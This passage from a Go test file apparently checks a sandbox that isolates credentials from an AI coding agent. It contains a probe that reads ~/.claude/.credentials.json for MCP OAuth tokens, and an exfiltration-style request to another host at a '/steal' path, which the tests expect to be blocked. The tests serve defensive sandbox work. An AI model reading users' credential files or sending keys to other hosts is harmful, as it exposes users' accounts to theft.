 "mcpOAuth": {"notion|4f2a": {"serverName": "notion", "serverUrl": "https://mcp.notion.com/mcp", "clientId": "client-1", "accessToken": "ntn_`+credMarker+`mcpaccess0123456789abcdefgh", "refreshToken": "ntn_`+credMarker+`mcprefresh0123456789abcdefg", "expiresAt": 1771872083256, "scope": ""},
              "stale|9e1c": {"serverName": "stale", "serverUrl": "https://mcp.example.com/mcp", "accessToken": "", "expiresAt": 0}}}`), 0o644))
	o, s, c := e.rtsbRun(t, []string{"--profile", "claude"}, nil, "python3", "-c", rt18FindProbe+`
import json
d = json.load(open(os.path.join(os.environ["HOME"], ".claude/.credentials.json")))
print("MCP", json.dumps(d.get("mcpOAuth")))
`, e.home)
	t.Logf("exit %d\n%s\n%s", c, o, s)
	if c != 0 || !strings.Contains(o, "HITS ") {
		t.Fatalf("the session did not run (exit %d)", c)
	}
	if !strings.Contains(o, "HITS []") {
		t.Fatalf("BREACH: the agent reads the user's real MCP OAuth tokens in its copy of ~/.claude/.credentials.json: %s", o)
	}
	if !strings.Contains(o, `"serverUrl": "https://mcp.notion.com/mcp"`) {
		t.Errorf("the rest of the MCP entry (its server, its client) should stay: %s", o)
	}
}

// TestRT18InterceptedRequestElsewhere: on the intercepted connection to
// the credential's host, a request in absolute form for another host,
// with that host in its Host header, still goes to the checked addresses
// of the CONNECT's host only (the proxy rewrites the URL and Host, its
// transport dials nothing else): the other loopback server, whose
// certificate the test roots also vouch for, gets nothing.
func TestRT18InterceptedRequestElsewhere(t *testing.T) {
	leaf, _ := testCA(t)
	var otherHits sync.Map
	other := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		otherHits.Store(r.Header.Get("Authorization"), true)
		io.WriteString(w, "other host")
	}))
	other.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
	other.StartTLS()
	defer other.Close()
	oaddr := other.Listener.Addr().String()
	out, got := rt18EchoSession(t, "https://"+oaddr+"/steal", "BEARER", "", oaddr)
	n := 0
	otherHits.Range(func(any, any) bool { n++; return true })
	if n != 0 || strings.Contains(out, "other host") {
		t.Fatalf("BREACH: a request on the intercepted connection reached another host (%d request(s))", n)
	}
	if len(got) != 1 || got[0] != "Bearer "+realEnvKey {
		t.Errorf("the credential's host received %q: want the one request, with the real key (it went to the CONNECT's host)", got)
	}
}
